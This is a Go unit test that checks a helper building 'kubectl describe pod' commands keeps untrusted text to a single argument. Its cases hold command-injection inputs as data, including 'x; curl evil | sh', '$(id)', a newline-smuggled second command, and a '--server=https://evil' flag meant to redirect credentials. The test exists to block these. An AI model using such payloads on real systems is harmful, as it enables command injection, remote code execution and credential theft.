package operator

import "testing"

// TestCommand verifies that no text that others choose becomes a part of a command that is more than an argument.
func TestCommand(t *testing.T) {
	cases := map[string]struct{ reason, argument, want string }{
		"Name":      {"Names of objects are arguments.", "foo-operator.v1.0.0", "kubectl describe pod foo-operator.v1.0.0"},
		"Image":     {"So are images.", "example.com:5000/foo:1@sha256:0", "kubectl describe pod example.com:5000/foo:1@sha256:0"},
		"Version":   {"So is the version that a policy inserts.", "<version>", "kubectl describe pod <version>"},
		"Command":   {"A second command is not.", "x; curl evil | sh", "kubectl describe pod NAME"},
		"Line":      {"Neither is a second line.", "x\ncurl", "kubectl describe pod NAME"},
		"Flag":      {"A flag may send credentials elsewhere.", "--server=https://evil", "kubectl describe pod NAME"},
		"Arguments": {"Neither are two arguments.", "x -n kube-system", "kubectl describe pod NAME"},
		"Quoted":    {"A quote may end another.", "x'", "kubectl describe pod NAME"},
		"Expanded":  {"A shell expands variables.", "$(id)", "kubectl describe pod NAME"},
		"Empty":     {"Nothing would shift the arguments.", "", "kubectl describe pod NAME"},
		"Foreign":   {"Other letters may look like a space.", "a\u3000b", "kubectl describe pod NAME"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			if got := Command("kubectl describe pod %s", tc.argument); got != tc.want {
				t.Errorf("%s\ngot %s, want %s", tc.reason, got, tc.want)
			}
		})
	}
}
